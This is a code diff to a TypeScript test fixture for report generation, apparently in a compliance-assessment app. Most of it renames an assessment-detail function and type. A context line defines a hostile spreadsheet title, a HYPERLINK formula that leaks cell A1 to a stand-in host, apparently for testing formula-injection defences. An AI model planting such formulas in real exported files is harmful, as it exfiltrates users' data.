@@ -4,10 +4,10 @@
  */
 import { getControl, updateControl } from '../../db/controls.js';
 import { createDemo } from '../../db/demo.js';
-import { assessmentDetail } from '../../api/assessment-handlers.js';
+import { scoredAssessment } from '../../api/assessment-handlers.js';
 import { registerLibrary } from '../../db/frameworks.js';
 import type { Register } from '../../db/register.js';
-import type { AssessmentDetail } from '../../shared/api/results.js';
+import type { ScoredAssessment } from '../../shared/api/results.js';
 import { buildReportData, type ReportData } from '../../shared/report/report-data.js';
 import { FIXED_NOW } from '../helpers/temp-register.js';
 
@@ -17,12 +17,12 @@ export const HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Cli
 export const HOSTILE_UID = 'demo-control-09';
 
 export interface Fixture {
-  detail: AssessmentDetail;
+  detail: ScoredAssessment;
   data: ReportData;
 }
 
 export function reportFixture(register: Register, assessmentId: number): Fixture {
-  const detail = assessmentDetail(register, assessmentId);
+  const detail = scoredAssessment(register, assessmentId);
   const data = buildReportData({ detail, frameworks: [...registerLibrary(register).frameworks.values()], auditExtract: [], trend: [], generatedAt: FIXED_NOW });
   return { detail, data };
 }
